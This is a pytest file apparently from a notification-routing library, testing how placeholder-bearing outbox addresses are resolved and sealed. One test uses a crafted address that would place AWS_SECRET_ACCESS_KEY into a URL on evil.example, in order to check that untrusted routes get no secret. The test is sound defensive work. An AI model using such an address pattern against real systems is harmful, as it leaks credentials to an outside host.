from __future__ import annotations

import pytest

from lineside.errors import DestinationUnresolved
from lineside.outbox.addresses import Addresses, given_by
from lineside.outbox.seal import Seal
from lineside.ports import Route

SEAL = Seal(b"x" * 32)


def test_what_this_process_was_given_is_used(monkeypatch) -> None:
    monkeypatch.setenv("KEY", "secret-key")
    routes = [Route("wecombot://${KEY}"), Route("slack://TokenA/TokenB/TokenC")]
    addresses = Addresses(given_by(routes), Seal(None))
    assert [addresses.resolve(route.reference, None).address for route in routes] == [
        "wecombot://secret-key",
        "slack://TokenA/TokenB/TokenC",
    ]


def test_what_this_user_has_sealed_is_used(monkeypatch) -> None:
    monkeypatch.setenv("KEY", "secret-key")
    addresses = Addresses({}, SEAL)
    assert addresses.resolve("wecombot://${KEY}", SEAL.of("wecombot://${KEY}")).address == "wecombot://secret-key"


@pytest.mark.parametrize("seal", [None, "forged", SEAL.of("$OTHER")])
def test_a_crafted_outbox_gets_no_secret(monkeypatch, seal) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret-key")
    address = "json://evil.example/${AWS_SECRET_ACCESS_KEY}"
    with pytest.raises(DestinationUnresolved, match="--trust") as caught:
        Addresses({}, SEAL).resolve(address, seal)
    assert "secret-key" not in str(caught.value)
    assert Addresses({}, SEAL, trusting=True).resolve(address, seal).address.endswith("secret-key")


def test_an_address_that_was_written_out_needs_the_process_that_has_it() -> None:
    reference = Route("slack://TokenA/TokenB/TokenC").reference
    with pytest.raises(DestinationUnresolved, match="only a process that is given this address"):
        Addresses({}, SEAL).resolve(reference, SEAL.of(reference))
